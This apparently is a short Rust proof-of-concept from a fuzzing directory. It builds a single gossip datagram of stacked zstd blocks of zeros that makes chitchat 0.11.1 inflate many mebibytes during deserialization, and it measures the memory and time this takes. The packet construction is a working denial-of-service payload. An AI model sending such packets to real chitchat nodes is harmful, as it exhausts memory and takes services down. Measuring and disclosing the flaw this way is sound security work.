//! How much memory one gossip datagram makes chitchat 0.11.1 allocate: an `Ack` whose delta
//! is as many zstd blocks of 64 KiB of zeros as fit in 65,507 bytes. chitchat inflates every
//! block into one buffer before it parses a single operation. Run from `fuzz/`:
//! `cargo run --release --example chitchat_bomb` (under `/usr/bin/time -v` for the peak RSS).

use chitchat::{ChitchatMessage, Deserializable};

fn main() -> anyhow::Result<()> {
    let block = zstd::bulk::compress(&[0u8; 65_535], 19)?;
    println!("zstd frame of 65535 zeros: {block:02x?}");
    // chitchat's magic number (45139, little-endian), protocol V0, Ack.
    let mut packet = vec![0x53, 0xb0, 0, 2];
    let mut blocks = 0usize;
    // Each block: type, u16 length, frame; one byte for the end marker stays free.
    while packet.len() + 3 + block.len() < 65_507 {
        packet.push(1); // a compressed block
        packet.extend_from_slice(&u16::try_from(block.len())?.to_le_bytes());
        packet.extend_from_slice(&block);
        blocks += 1;
    }
    packet.push(0); // no more blocks
    let started = std::time::Instant::now();
    let result = ChitchatMessage::deserialize(&mut packet.as_slice());
    println!(
        "packet {} bytes, {} blocks of {} bytes each inflating to 65535: {} MiB inflated, \
         deserialize {:?} in {:?}",
        packet.len(),
        blocks,
        block.len(),
        (blocks * 65_535) >> 20,
        result.map(|_| "ok").map_err(|e| e.to_string()),
        started.elapsed()
    );
    Ok(())
}
